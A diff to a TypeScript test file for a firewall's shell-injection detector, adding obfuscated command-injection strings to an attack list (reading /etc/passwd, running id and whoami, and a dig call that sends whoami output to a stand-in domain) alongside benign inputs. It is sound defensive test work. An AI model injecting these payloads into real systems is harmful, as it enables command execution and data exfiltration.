@@ -5,6 +5,14 @@ import { detectShell } from "../../../../../runtime/primitives/waf/detect/shell.
 import { scaled } from "../../../../helpers/scale.ts";
 
 const ATTACKS = [
+  ";w`echo h`o",
+  ";un$(echo am)e -a",
+  ";${PATH:0:1}bin${PATH:0:1}ls",
+  ";x=LS;${x,,}",
+  ";find . -name a -exec sh \\;",
+  ";dig +short `whoami`.a.example",
+  "a=$(id>/tmp/b)",
+  "a;ls|sort /etc/passwd",
   "; cat /etc/passwd",
   "|id",
   "$(whoami)",
@@ -66,6 +74,12 @@ const ATTACKS = [
   "a;find . -exec id",
 ];
 const HONEST = [
+  "kubectl get nodes -o wide | grep -v Ready",
+  "ls -l src/ | wc -l",
+  "status=500 by host | stats count | sort -count",
+  "; then ls the folder",
+  "docker run -v $(pwd):/src image",
+  "if (x && x > 3) { go(); }",
   "a hero; more than that",
   "O'Brien; drop by at 5",
   "cat food",
